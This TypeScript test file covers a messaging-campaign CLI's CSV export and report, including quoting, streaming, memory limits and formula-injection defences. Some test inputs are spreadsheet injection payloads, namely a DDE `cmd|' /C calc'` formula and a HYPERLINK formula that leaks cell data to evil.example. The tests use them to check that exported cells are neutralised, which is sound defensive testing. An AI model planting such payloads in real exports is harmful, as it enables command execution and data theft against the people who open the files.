import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { Db } from '../src/db/executor.ts';
import { encodeCell, encodeRow, renderReportCsv, startsFormula } from '../src/report/csv.ts';
import { CopyTextToCsv, EXPORT_COLUMNS, isoUtc } from '../src/report/export.ts';
import { buildReport } from '../src/report/report.ts';
import { campaignInsert as insertCampaignRow, createTestDb, type TestDb } from './helpers/db.ts';
import { CLI, cliEnv, runCli } from './helpers/cli.ts';

let t: TestDb;
let env: Record<string, string>;
let templateId: number;
const dir = mkdtempSync(join(tmpdir(), 'export-'));
before(async () => {
  t = await createTestDb('export');
  env = { DATABASE_URL: t.url };
  templateId = (await t.db.raw(`INSERT INTO templates (name, language, category, body, parameter_format, slots)
    VALUES ('export_t', 'en', 'marketing', 'Hi {{1}}', 'positional', '{body.1}') RETURNING id`)).rows[0].id;
});
after(async () => {
  await t.close();
  if (existsSync(join(dir, 'readonly'))) chmodSync(join(dir, 'readonly'), 0o755);
  rmSync(dir, { recursive: true, force: true });
});

const HEADER = 'line,phone_input,phone_e164,outcome,reason,error_code,error_title,message_id,attempts,sent_at,delivered_at,read_at,failed_at';
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];

/** campaign_insert with the seven columns every version takes; later optional parameters null. */
async function campaignInsert(db: Db, name: string): Promise<string> {
  const id: string = (await insertCampaignRow(db, [name, templateId, 'default', 'phone', { 'body.1': 'name' }, 'ID', null])).id;
  return id;
}

async function finishIngest(id: string): Promise<void> {
  await t.db.raw(`UPDATE campaigns c SET ingest_state = 'done', state = 'running', started_at = now(),
      ingest_rows = k.rows, ingest_accepted = k.accepted, ingest_invalid = k.invalid, ingest_duplicate = k.duplicate,
      ingest_suppressed = k.suppressed, invalid_reasons = k.reasons
    FROM (SELECT count(*)::int AS rows, count(*) FILTER (WHERE outcome = 'accepted')::int AS accepted,
                 count(*) FILTER (WHERE outcome = 'invalid')::int AS invalid, count(*) FILTER (WHERE outcome = 'duplicate')::int AS duplicate,
                 count(*) FILTER (WHERE outcome = 'suppressed')::int AS suppressed,
                 coalesce((SELECT jsonb_object_agg(reason, n) FROM (SELECT reason, count(*) AS n FROM recipients
                   WHERE campaign_id = $1 AND outcome = 'invalid' GROUP BY reason) x), '{}') AS reasons
          FROM recipients WHERE campaign_id = $1) k
    WHERE c.id = $1`, [id]);
}

interface Row {
  line: number; phone_input: string; phone_e164?: string | null; outcome: string; reason?: string | null; detail?: string | null;
  status?: string | null; send_phase?: string | null; retry_at?: string | null; attempts?: number; message_id?: string | null;
  error_code?: string | null; error_title?: string | null; accepted_at?: string | null; sent_at?: string | null;
  delivered_at?: string | null; read_at?: string | null; failed_at?: string | null;
}

async function insertRows(id: string, rows: Row[]): Promise<void> {
  for (const r of rows) {
    await t.db.raw(`INSERT INTO recipients (campaign_id, line, phone_input, phone_e164, params, outcome, reason, detail, status,
        send_phase, retry_at, attempts, message_id, error_code, error_title, accepted_at, sent_at, delivered_at, read_at, failed_at)
      VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14, $15, $16, $17, $18, $19, $20)`, [
      id, r.line, r.phone_input, r.phone_e164 ?? null, r.outcome === 'accepted' ? { 'body.1': 'x' } : null, r.outcome,
      r.reason ?? null, r.detail ?? null, r.status ?? null, r.send_phase ?? null, r.retry_at ?? null, r.attempts ?? 0,
      r.message_id ?? null, r.error_code ?? null, r.error_title ?? null, r.accepted_at ?? null, r.sent_at ?? null,
      r.delivered_at ?? null, r.read_at ?? null, r.failed_at ?? null,
    ]);
  }
}

const T1 = '2025-03-01T10:00:00.000Z';
const T2 = '2025-03-01T10:00:05.250Z';
const T3 = '2025-03-01T10:01:00.000Z';
const T4 = '2025-03-01T11:30:00.123Z';

/** Every outcome kind, inserted out of line order (the export must sort by line). */
const KINDS: Row[] = [
  { line: 16, phone_input: '0812 0000 0016', phone_e164: '+6281200000016', outcome: 'accepted', status: 'delivered', attempts: 2,
    message_id: 'wamid.16', error_code: 'ambiguous', error_title: 'No answer after the request was sent; it may have been delivered',
    accepted_at: T1, sent_at: T2, delivered_at: T3, failed_at: T2 },
  { line: 2, phone_input: 'abc', outcome: 'invalid', reason: 'invalid_phone', detail: 'not a number' },
  { line: 3, phone_input: '0812 0000 0003', outcome: 'invalid', reason: 'missing_param', detail: 'body.1' },
  { line: 4, phone_input: '0812 0000 0004', outcome: 'invalid', reason: 'invalid_param', detail: 'newline' },
  { line: 5, phone_input: '0812 0000 0005', outcome: 'invalid', reason: 'malformed_row', detail: '3 fields' },
  { line: 6, phone_input: '0812-0000-0008', phone_e164: '+6281200000008', outcome: 'duplicate' },
  { line: 7, phone_input: '+6281200000007', phone_e164: '+6281200000007', outcome: 'suppressed' },
  { line: 8, phone_input: '081200000008', phone_e164: '+6281200000008', outcome: 'accepted', status: 'queued' },
  { line: 9, phone_input: '081200000009', phone_e164: '+6281200000009', outcome: 'accepted', status: 'sending', send_phase: 'retry_wait',
    retry_at: T4, attempts: 1, error_code: 'http_503', error_title: 'Service Unavailable' },
  { line: 10, phone_input: '081200000010', phone_e164: '+6281200000010', outcome: 'accepted', status: 'accepted', attempts: 1, message_id: 'wamid.10', accepted_at: T1 },
  { line: 11, phone_input: '081200000011', phone_e164: '+6281200000011', outcome: 'accepted', status: 'sent', attempts: 1, message_id: 'wamid.11', accepted_at: T1, sent_at: T2 },
  { line: 12, phone_input: '081200000012', phone_e164: '+6281200000012', outcome: 'accepted', status: 'delivered', attempts: 1, message_id: 'wamid.12', accepted_at: T1, sent_at: T2, delivered_at: T3 },
  { line: 13, phone_input: '081200000013', phone_e164: '+6281200000013', outcome: 'accepted', status: 'read', attempts: 3, message_id: 'wamid.13', accepted_at: T1, sent_at: T2, delivered_at: T3, read_at: T4 },
  { line: 14, phone_input: '081200000014', phone_e164: '+6281200000014', outcome: 'accepted', status: 'failed', attempts: 1, message_id: 'wamid.14',
    error_code: '131026', error_title: 'Message undeliverable', accepted_at: T1, sent_at: T2, failed_at: T3 },
  { line: 15, phone_input: '081200000015', phone_e164: '+6281200000015', outcome: 'accepted', status: 'failed', attempts: 5, failed_at: T4 },
];

/** What the export must say for KINDS, line by line, as csv-parse reads it back. */
const EXPECTED: string[][] = [
  ['2', 'abc', '', 'invalid', 'invalid_phone', '', '', '', '0', '', '', '', ''],
  ['3', '0812 0000 0003', '', 'invalid', 'missing_param', '', '', '', '0', '', '', '', ''],
  ['4', '0812 0000 0004', '', 'invalid', 'invalid_param', '', '', '', '0', '', '', '', ''],
  ['5', '0812 0000 0005', '', 'invalid', 'malformed_row', '', '', '', '0', '', '', '', ''],
  ['6', '0812-0000-0008', '+6281200000008', 'duplicate', '', '', '', '', '0', '', '', '', ''],
  ['7', '+6281200000007', '+6281200000007', 'suppressed', '', '', '', '', '0', '', '', '', ''],
  ['8', '081200000008', '+6281200000008', 'queued', '', '', '', '', '0', '', '', '', ''],
  ['9', '081200000009', '+6281200000009', 'sending', '', 'http_503', 'Service Unavailable', '', '1', '', '', '', ''],
  ['10', '081200000010', '+6281200000010', 'accepted', '', '', '', 'wamid.10', '1', '', '', '', ''],
  ['11', '081200000011', '+6281200000011', 'sent', '', '', '', 'wamid.11', '1', T2, '', '', ''],
  ['12', '081200000012', '+6281200000012', 'delivered', '', '', '', 'wamid.12', '1', T2, T3, '', ''],
  ['13', '081200000013', '+6281200000013', 'read', '', '', '', 'wamid.13', '3', T2, T3, T4, ''],
  ['14', '081200000014', '+6281200000014', 'failed', '', '131026', 'Message undeliverable', 'wamid.14', '1', T2, '', '', T3],
  ['15', '081200000015', '+6281200000015', 'failed', '', 'unknown', '', '', '5', '', '', '', T4],
  // Failed by the settle window, then delivered by a late webhook: the stale error and failed_at are left out.
  ['16', '0812 0000 0016', '+6281200000016', 'delivered', '', '', '', 'wamid.16', '2', T2, T3, '', ''],
];

const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: false });

// ---------------------------------------------------------------------------------------------------------
// Cell encoding, without a database.

test('encodeCell: each character that starts a formula gets a leading quote and the cell is quoted', () => {
  for (const c of DANGEROUS) {
    const cell = `${c}cmd|' /C calc'!A0`;
    const enc = encodeCell(cell);
    assert.ok(enc.startsWith(`"'${c}`), `${JSON.stringify(c)} -> ${JSON.stringify(enc)}`);
    assert.deepEqual(parseCsv(enc + '\n'), [[`'${cell}`]]);
  }
  assert.equal(encodeCell('=HYPERLINK("http://evil","x")'), `"'=HYPERLINK(""http://evil"",""x"")"`);
  assert.equal(encodeCell('@SUM(A1)'), `"'@SUM(A1)"`);
  assert.equal(encodeCell('+62 812-3456-7890'), `"'+62 812-3456-7890"`);
  assert.equal(encodeCell('-1+1'), `"'-1+1"`);
  assert.equal(encodeCell('+'), `"'+"`);
  assert.equal(encodeCell('-'), `"'-"`);
});

test('encodeCell: a + or - followed only by digits stays as it is, so phone_e164 is +6281234567890', () => {
  assert.equal(encodeCell('+6281234567890'), '+6281234567890');
  assert.equal(encodeCell('-42'), '-42');
  assert.equal(startsFormula('+6281234567890'), false);
  // Not only digits: neutralised.
  assert.equal(startsFormula('+62812345678a'), true);
  assert.equal(startsFormula('+62 812'), true);
  assert.equal(startsFormula('+6281234567890\n=1'), true);
});

test('encodeCell: RFC 4180 quoting of delimiters, quotes and line breaks; ; and tab are quoted too', () => {
  assert.equal(encodeCell('plain'), 'plain');
  assert.equal(encodeCell(''), '');
  assert.equal(encodeCell(null), '');
  assert.equal(encodeCell(undefined), '');
  assert.equal(encodeCell(42), '42');
  assert.equal(encodeCell(0.895), '0.895');
  assert.equal(encodeCell('a,b'), '"a,b"');
  assert.equal(encodeCell('say "hi"'), '"say ""hi"""');
  assert.equal(encodeCell('two\nlines'), '"two\nlines"');
  assert.equal(encodeCell('cr\rlf\r\n'), '"cr\rlf\r\n"');
  assert.equal(encodeCell('a;=1'), '"a;=1"');
  assert.equal(encodeCell('a\tb'), '"a\tb"');
  assert.equal(encodeRow(['a', null, 1, 'b,c']), 'a,,1,"b,c"\n');
});

test('encodeRow round-trips through csv-parse for any strings; no parsed cell starts a formula', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 12 }),
    fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a', '1', ' ', 'é'), maxLength: 8 }),
  );
  fc.assert(fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
    const back = parseCsv(encodeRow(cells));
    assert.equal(back.length, 1);
    assert.equal(back[0]!.length, cells.length);
    back[0]!.forEach((got, i) => {
      const want = cells[i]!;
      assert.equal(got, startsFormula(want) ? `'${want}` : want);
      if (got.length > 0 && DANGEROUS.includes(got[0]!)) assert.match(got, /^[+-]\d+$/);
    });
  }), { numRuns: 2000 });
});

test('CopyTextToCsv: COPY text rows split anywhere (mid-row, mid-UTF-8 sequence) give the same CSV', async () => {
  const copy = Buffer.from([
    '2\tBudi Ş\\tx\t\\N\tinvalid\tinvalid_phone\t\\N\t\\N\t\\N\t0\t\\N\t\\N\t\\N\t\\N',
    '3\t=1+1\\nline\\\\two\t+6281234567890\tqueued\t\\N\t\\N\t\\N\t\\N\t0\t\\N\t\\N\t\\N\t\\N',
    '4\t日本語,"q"\t+6281234567891\tfailed\t\\N\t131026\t@bad\\r\twamid.1\t1\t2025-03-01 10:00:00\t\\N\t\\N\t2025-03-01 10:00:05.25',
  ].join('\n') + '\n');
  const want = [
    ['2', 'Budi Ş\tx', '', 'invalid', 'invalid_phone', '', '', '', '0', '', '', '', ''],
    ['3', "'=1+1\nline\\two", '+6281234567890', 'queued', '', '', '', '', '0', '', '', '', ''],
    ['4', '日本語,"q"', '+6281234567891', 'failed', '', '131026', "'@bad\r", 'wamid.1', '1', T1, '', '', T2],
  ];
  const run = async (pieces: Buffer[]): Promise<string> => {
    const chunks: Buffer[] = [];
    await pipeline(Readable.from(pieces), new CopyTextToCsv(), new Writable({ write(c, _e, cb) { chunks.push(Buffer.from(c)); cb(); } }));
    return Buffer.concat(chunks).toString('utf8');
  };
  const whole = await run([copy]);
  assert.deepEqual(parseCsv(whole), [[...EXPORT_COLUMNS], ...want]);
  for (let cut = 1; cut < copy.length; cut++) {
    assert.equal(await run([copy.subarray(0, cut), copy.subarray(cut)]), whole, `cut at ${cut}`);
  }
  assert.equal(await run([...copy].map((b) => Buffer.from([b]))), whole);
});

test('isoUtc: a UTC timestamp in the ISO DateStyle to ISO 8601 with milliseconds; anything else throws', () => {
  assert.equal(isoUtc('2025-03-01 10:00:05'), '2025-03-01T10:00:05.000Z');
  assert.equal(isoUtc('2025-03-01 10:00:05.25'), '2025-03-01T10:00:05.250Z');
  assert.equal(isoUtc('2025-03-01 10:00:05.123987'), '2025-03-01T10:00:05.123Z');
  assert.throws(() => isoUtc('03/01/2025 10:00:05'), /DateStyle/);
  assert.throws(() => isoUtc('Sat Mar 01 10:00:05 2025'), /DateStyle/);
});

// ---------------------------------------------------------------------------------------------------------
// campaign export, end to end through the CLI.

test('export: the header, then every outcome kind in line order with its columns', async () => {
  const id = await campaignInsert(t.db, 'kinds');
  await insertRows(id, KINDS);
  await finishIngest(id);
  const out = join(dir, 'kinds.csv');
  const r = await runCli(['export', id, '--out', out, '--json'], env);
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual(JSON.parse(r.stdout), { id, rows: KINDS.length, out });
  const text = readFileSync(out, 'utf8');
  assert.ok(text.startsWith(HEADER + '\n'), 'the contract header, no BOM');
  assert.ok(text.endsWith('\n'));
  const [header, ...rows] = parseCsv(text);
  assert.deepEqual(header, HEADER.split(','));
  assert.deepEqual(rows, EXPECTED);
  // Nothing left behind next to the file.
  assert.deepEqual(readdirSync(dir).filter((f) => f.startsWith('kinds.csv')), ['kinds.csv']);

  // Without --json: one line for the person; --out - gives the same CSV on stdout; --bom adds the mark.
  const human = await runCli(['export', id, '--out', out], env);
  assert.equal(human.code, 0, human.stderr);
  assert.match(human.stdout, new RegExp(`^campaign ${id}: ${KINDS.length} rows written to .*kinds\\.csv\\n$`));
  const piped = await runCli(['export', id, '--out', '-'], env);
  assert.equal(piped.code, 0, piped.stderr);
  assert.equal(piped.stdout, text);
  const bom = await runCli(['export', id, '--out', '-', '--bom'], env);
  assert.equal(bom.stdout, '\ufeff' + text);
  assert.deepEqual(parse(bom.stdout, { bom: true }), parseCsv(text));

  // Times are ISO 8601 UTC whatever the server's DateStyle and TimeZone.
  const db = new URL(t.url).pathname.slice(1);
  await t.db.raw(`ALTER DATABASE ${db} SET DateStyle = 'SQL, DMY'`);
  await t.db.raw(`ALTER DATABASE ${db} SET TimeZone = 'Asia/Jakarta'`);
  try {
    const other = await runCli(['export', id, '--out', '-'], env);
    assert.equal(other.code, 0, other.stderr);
    assert.equal(other.stdout, text);
  } finally {
    await t.db.raw(`ALTER DATABASE ${db} RESET DateStyle`);
    await t.db.raw(`ALTER DATABASE ${db} RESET TimeZone`);
  }
});

test('export: formula cells are neutralised in every column; phone_e164 stays +62…', async () => {
  const id = await campaignInsert(t.db, 'formulas');
  const rows: Row[] = DANGEROUS.map((c, i) => ({ line: 2 + i, phone_input: `${c}1+1`, outcome: 'invalid', reason: 'invalid_phone' }));
  rows.push({ line: 10, phone_input: '+62 812-3456-7890', phone_e164: '+6281234567890', outcome: 'accepted', status: 'failed', attempts: 1,
    error_code: '@code', error_title: '=HYPERLINK("http://evil.example/?"&A1,"click")', message_id: '-wamid', failed_at: T1 });
  rows.push({ line: 11, phone_input: '-2, "quoted"\nnext', phone_e164: '+6281234567891', outcome: 'duplicate' });
  await insertRows(id, rows);
  await finishIngest(id);
  const r = await runCli(['export', id, '--out', '-'], env);
  assert.equal(r.code, 0, r.stderr);
  const [, ...got] = parseCsv(r.stdout);
  assert.deepEqual(got.map((row) => row[1]), [...DANGEROUS.map((c) => `'${c}1+1`), "'+62 812-3456-7890", `'-2, "quoted"\nnext`]);
  assert.deepEqual(got[6]!.slice(0, 9), ['10', "'+62 812-3456-7890", '+6281234567890', 'failed', '', "'@code",
    `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'-wamid", '1']);
  assert.equal(got[7]![2], '+6281234567891');
  for (const row of got) for (const cell of row) {
    if (cell.length > 0 && DANGEROUS.includes(cell[0]!)) assert.match(cell, /^\+\d+$/, `cell ${JSON.stringify(cell)} starts a formula`);
  }
  // The raw text: the E.164 numbers are written bare, not quoted, exactly as the contract shows them.
  assert.match(r.stdout, /,\+6281234567890,failed,/);
});

test('export: exit 2 for a bad id, an unknown campaign, an unwritable path; FILE untouched', async () => {
  const id = await campaignInsert(t.db, 'exits');
  await insertRows(id, KINDS.slice(0, 3));
  await finishIngest(id);
  const keep = join(dir, 'keep.csv');
  writeFileSync(keep, 'old contents\n');

  const bad = await runCli(['export', 'not-a-uuid', '--out', keep], env);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /not a campaign id/);
  const unknown = await runCli(['export', '00000000-0000-0000-0000-000000000000', '--out', keep, '--json'], env);
  assert.equal(unknown.code, 2);
  assert.equal(unknown.stdout, '');
  assert.match(unknown.stderr, /unknown campaign 00000000-0000-0000-0000-000000000000/);
  assert.equal(readFileSync(keep, 'utf8'), 'old contents\n');

  const noDir = await runCli(['export', id, '--out', join(dir, 'missing', 'x.csv')], env);
  assert.equal(noDir.code, 2);
  assert.match(noDir.stderr, /directory .*missing does not exist/);
  const isDir = await runCli(['export', id, '--out', dir], env);
  assert.equal(isDir.code, 2);
  assert.match(isDir.stderr, /is a directory/);
  const noOut = await runCli(['export', id], env);
  assert.equal(noOut.code, 2);
  assert.match(noOut.stderr, /out/);
  const jsonStdout = await runCli(['export', id, '--out', '-', '--json'], env);
  assert.equal(jsonStdout.code, 2);
  assert.match(jsonStdout.stderr, /--json with --out -/);
  for (const r of [bad, unknown, noDir, isDir, jsonStdout]) assert.equal(r.stderr.trim().split('\n').length, 1, r.stderr);

  const underFile = await runCli(['export', id, '--out', join(keep, 'x.csv')], env);
  assert.equal(underFile.code, 2);
  assert.match(underFile.stderr, /keep\.csv is not a directory/);
  if (existsSync('/proc/self')) {
    // A directory nobody may create files in, even root.
    const proc = await runCli(['export', id, '--out', '/proc/export.csv'], env);
    assert.equal(proc.code, 2, proc.stderr);
    assert.match(proc.stderr, /^campaign: cannot write --out \/proc\/export\.csv: /);
  }
  if (process.getuid?.() !== 0) {
    const ro = join(dir, 'readonly');
    mkdirSync(ro);
    chmodSync(ro, 0o555);
    const denied = await runCli(['export', id, '--out', join(ro, 'x.csv')], env);
    assert.equal(denied.code, 2, denied.stderr);
    assert.match(denied.stderr, /cannot write --out .*EACCES/);
    assert.deepEqual(readdirSync(ro), []);
  }

  // A campaign with no rows (yet): the header alone.
  const empty = await campaignInsert(t.db, 'empty');
  const none = await runCli(['export', empty, '--out', '-'], env);
  assert.equal(none.code, 0, none.stderr);
  assert.equal(none.stdout, HEADER + '\n');
  assert.match(none.stderr, /still being validated/);

  // A successful export replaces the file whole.
  const ok = await runCli(['export', id, '--out', keep], env);
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal(parseCsv(readFileSync(keep, 'utf8')).length, 4);
});

test('export: 200,000 rows in line order with a 64 MB heap, peak RSS bounded', async () => {
  const N = 200_000;
  const id = await campaignInsert(t.db, 'big');
  // Every tenth row invalid, the rest delivered, with long-ish cells (~150 bytes a row, ~30 MB of CSV);
  // inserted in descending line order so the export has to follow the key, not the heap order.
  await t.db.raw(`INSERT INTO recipients (campaign_id, line, phone_input, phone_e164, params, outcome, reason, status,
      attempts, message_id, accepted_at, sent_at, delivered_at)
    SELECT $1, g,
           CASE WHEN g % 10 = 0 THEN '=bad ' || g ELSE '0812 ' || lpad(g::text, 8, '0') END,
           CASE WHEN g % 10 = 0 THEN NULL ELSE '+62812' || lpad(g::text, 8, '0') END,
           CASE WHEN g % 10 = 0 THEN NULL ELSE '{"body.1":"x"}'::jsonb END,
           (CASE WHEN g % 10 = 0 THEN 'invalid' ELSE 'accepted' END)::row_outcome,
           CASE WHEN g % 10 = 0 THEN 'invalid_phone' END,
           (CASE WHEN g % 10 = 0 THEN NULL ELSE 'delivered' END)::recipient_status,
           CASE WHEN g % 10 = 0 THEN 0 ELSE 1 END,
           CASE WHEN g % 10 = 0 THEN NULL ELSE 'wamid.HBgNNjI4MTIzNDU2Nzg5MBUCABEYEjQ2' || lpad(g::text, 10, '0') END,
           CASE WHEN g % 10 = 0 THEN NULL ELSE timestamptz '2025-03-01T10:00:00Z' + g * interval '1 ms' END,
           CASE WHEN g % 10 = 0 THEN NULL ELSE timestamptz '2025-03-01T10:00:01Z' + g * interval '1 ms' END,
           CASE WHEN g % 10 = 0 THEN NULL ELSE timestamptz '2025-03-01T10:00:02Z' + g * interval '1 ms' END
    FROM generate_series($2::int + 1, 2, -1) g`, [id, N]);
  await finishIngest(id);
  const out = join(dir, 'big.csv');

  // The CLI's own process, with the heap capped at 64 MB (bin/campaign.js does not re-exec when the heap
  // flags are given); a preload reports the peak RSS at exit. The baseline is the same process printing
  // the report: loading the CLI's modules alone takes ~120 MB of RSS, so what the export adds is the measure.
  const rssAtExit = `data:text/javascript,process.on('exit',()=>process.stderr.write('maxrss_kb='+process.resourceUsage().maxRSS+'\\n'))`;
  const cli = async (args: string[]): Promise<{ code: number | null; stdout: string; stderr: string; rssMb: number; ms: number }> => {
    const child = spawn(process.execPath, ['--max-semi-space-size=4', '--max-old-space-size=64', '--import', rssAtExit, CLI, ...args],
      { env: cliEnv(env), stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d));
    child.stderr.on('data', (d: Buffer) => (stderr += d));
    const t0 = Date.now();
    const code = await new Promise<number | null>((r) => child.on('exit', r));
    const rss = /maxrss_kb=(\d+)/.exec(stderr);
    return { code, stdout, stderr, rssMb: rss ? Number(rss[1]) / 1024 : NaN, ms: Date.now() - t0 };
  };
  const base = await cli(['report', id, '--json']);
  assert.equal(base.code, 0, base.stderr);
  const r = await cli(['export', id, '--out', out, '--json']);
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual(JSON.parse(r.stdout), { id, rows: N, out });
  const size = statSync(out).size;
  console.log(`# export of ${N} rows: ${r.ms} ms, ${(size / 1e6).toFixed(1)} MB of CSV, peak RSS ${r.rssMb.toFixed(0)} MB (report: ${base.rssMb.toFixed(0)} MB)`);
  assert.ok(size > 25e6, `the CSV is ${size} bytes: not more than the bound, the test would prove nothing`);
  assert.ok(r.rssMb - base.rssMb < 24, `the export took ${(r.rssMb - base.rssMb).toFixed(0)} MB more than the report (peak ${r.rssMb.toFixed(0)} MB)`);
  assert.ok(r.rssMb < 150, `peak RSS ${r.rssMb.toFixed(0)} MB`);

  // Killed mid-way (SIGKILL: nothing runs): FILE keeps what it held, the partial data is only in the
  // temporary file. SIGTERM: the temporary file is removed too.
  for (const signal of ['SIGKILL', 'SIGTERM'] as const) {
    const target = join(dir, `killed-${signal}.csv`);
    writeFileSync(target, 'previous export\n');
    const child = spawn(process.execPath, [CLI, 'export', id, '--out', target], { env: cliEnv(env), stdio: 'ignore' });
    const exited = new Promise<number | null>((r) => child.on('exit', (code, sig) => r(sig ? -1 : code)));
    const tmp = `${target}.${child.pid}.tmp`;
    const until = Date.now() + 30_000;
    while (!(existsSync(tmp) && statSync(tmp).size > 1e6) && Date.now() < until) await new Promise((r) => setTimeout(r, 10));
    assert.ok(existsSync(tmp), 'the export writes to FILE.<pid>.tmp');
    child.kill(signal);
    assert.equal(await exited, -1);
    assert.equal(readFileSync(target, 'utf8'), 'previous export\n');
    assert.equal(existsSync(tmp), signal === 'SIGKILL');
    if (signal === 'SIGKILL') rmSync(tmp);
  }

  // Order and content, streamed back line by line (no parse of the whole file needed: no cell holds a line break).
  const lines = readFileSync(out, 'utf8').split('\n');
  assert.equal(lines.length, N + 2); // header, N rows, the empty string after the last LF
  assert.equal(lines[0], HEADER);
  assert.equal(lines[N + 1], '');
  for (let i = 1; i <= N; i++) {
    const g = i + 1;
    const line = lines[i]!;
    const want = g % 10 === 0
      ? `${g},"'=bad ${g}",,invalid,invalid_phone,,,,0,,,,`
      : `${g},0812 ${String(g).padStart(8, '0')},+62812${String(g).padStart(8, '0')},delivered,,,,wamid.HBgNNjI4MTIzNDU2Nzg5MBUCABEYEjQ2${String(g).padStart(10, '0')},1,`;
    if (g % 10 === 0 ? line !== want : !line.startsWith(want)) assert.fail(`line ${i}: ${line} (want ${want}…)`);
  }
  assert.deepEqual(parseCsv(lines.slice(0, 3).join('\n'))[2], ['3', '0812 00000003', '+6281200000003', 'delivered', '', '', '', 'wamid.HBgNNjI4MTIzNDU2Nzg5MBUCABEYEjQ20000000003', '1',
    '2025-03-01T10:00:01.003Z', '2025-03-01T10:00:02.003Z', '', '']);
});

// ---------------------------------------------------------------------------------------------------------
// campaign report --format csv.

test('report --format csv: section,key,value,detail, one row per report field, failures with their titles', async () => {
  const id = await campaignInsert(t.db, '=Black Friday, "50%"');
  await insertRows(id, KINDS);
  await finishIngest(id);
  await t.db.raw(`UPDATE recipients SET error_title = '=cmd|'' /C calc''!A0' WHERE campaign_id = $1 AND line = 14`, [id]);
  const r = await runCli(['report', id, '--format', 'csv'], env);
  assert.equal(r.code, 0, r.stderr);
  assert.ok(r.stdout.startsWith('section,key,value,detail\n'));
  const [header, ...rows] = parseCsv(r.stdout);
  assert.deepEqual(header, ['section', 'key', 'value', 'detail']);
  const report = (await buildReport(t.db, id))!;
  const get = (section: string, key: string): string | undefined => rows.find((x) => x[0] === section && x[1] === key)?.[2];

  // Every field of the JSON is a row, in the JSON's order; section.key is its path.
  const paths = rows.map((x) => (x[0] === 'report' ? x[1] : `${x[0]}.${x[1]}`));
  assert.deepEqual(paths, [
    'id', 'name', 'state', 'template.name', 'template.language', 'channel', 'created_at', 'started_at', 'completed_at',
    'ingest.rows', 'ingest.accepted', 'ingest.invalid', 'ingest.duplicate', 'ingest.suppressed',
    'ingest.invalid_reasons.invalid_phone', 'ingest.invalid_reasons.missing_param', 'ingest.invalid_reasons.invalid_param', 'ingest.invalid_reasons.malformed_row',
    'status.queued', 'status.sending', 'status.accepted', 'status.sent', 'status.delivered', 'status.read', 'status.failed',
    ...report.failures.map((f) => `failures.${f.code}`),
    'attempts.requests', 'attempts.retries', 'ambiguous', 'pause_reason', 'rates.delivered', 'rates.read', 'rates.failed',
  ]);
  assert.equal(get('report', 'id'), id);
  assert.equal(get('report', 'name'), `'=Black Friday, "50%"`);
  assert.equal(get('report', 'state'), 'running');
  assert.equal(get('template', 'name'), 'export_t');
  assert.equal(get('report', 'completed_at'), '');
  assert.equal(get('report', 'pause_reason'), '');
  assert.equal(get('ingest', 'rows'), '15');
  assert.equal(get('ingest.invalid_reasons', 'malformed_row'), '1');
  for (const [k, v] of Object.entries(report.status)) assert.equal(get('status', k), String(v));
  assert.equal(get('status', 'failed'), '2');
  assert.equal(get('rates', 'delivered'), String(report.rates.delivered));
  assert.deepEqual(rows.filter((x) => x[0] === 'failures'), report.failures.map((f) => ['failures', f.code, String(f.count),
    f.title.startsWith('=') ? `'${f.title}` : f.title]));
  assert.ok(rows.some((x) => x[0] === 'failures' && x[1] === '131026' && x[3] === `'=cmd|' /C calc'!A0`));
  assert.ok(rows.filter((x) => x[0] !== 'failures').every((x) => x[3] === ''));
  // The same rendering as the module's, and --json and --format json are the same document.
  assert.equal(r.stdout, renderReportCsv(report));
  const json = await runCli(['report', id, '--json'], env);
  const fmt = await runCli(['report', id, '--format', 'json'], env);
  assert.deepEqual(JSON.parse(fmt.stdout), JSON.parse(json.stdout));
  const bom = await runCli(['report', id, '--format', 'csv', '--bom'], env);
  assert.equal(bom.stdout, '\ufeff' + r.stdout);
});

test('report --format csv: exit 2 for an unknown campaign and for contradicting flags', async () => {
  const unknown = await runCli(['report', '00000000-0000-0000-0000-000000000000', '--format', 'csv'], env);
  assert.equal(unknown.code, 2);
  assert.equal(unknown.stdout, '');
  assert.match(unknown.stderr, /unknown campaign/);
  const both = await runCli(['report', '00000000-0000-0000-0000-000000000000', '--json', '--format', 'csv'], env);
  assert.equal(both.code, 2);
  assert.match(both.stderr, /--json and --format csv: pick one/);
  const bom = await runCli(['report', '00000000-0000-0000-0000-000000000000', '--bom'], env);
  assert.equal(bom.code, 2);
  assert.match(bom.stderr, /--bom goes with --format csv/);
  const fmt = await runCli(['report', '00000000-0000-0000-0000-000000000000', '--format', 'xml'], env);
  assert.equal(fmt.code, 2);
  assert.ok(!existsSync(join(dir, 'nothing')));
});
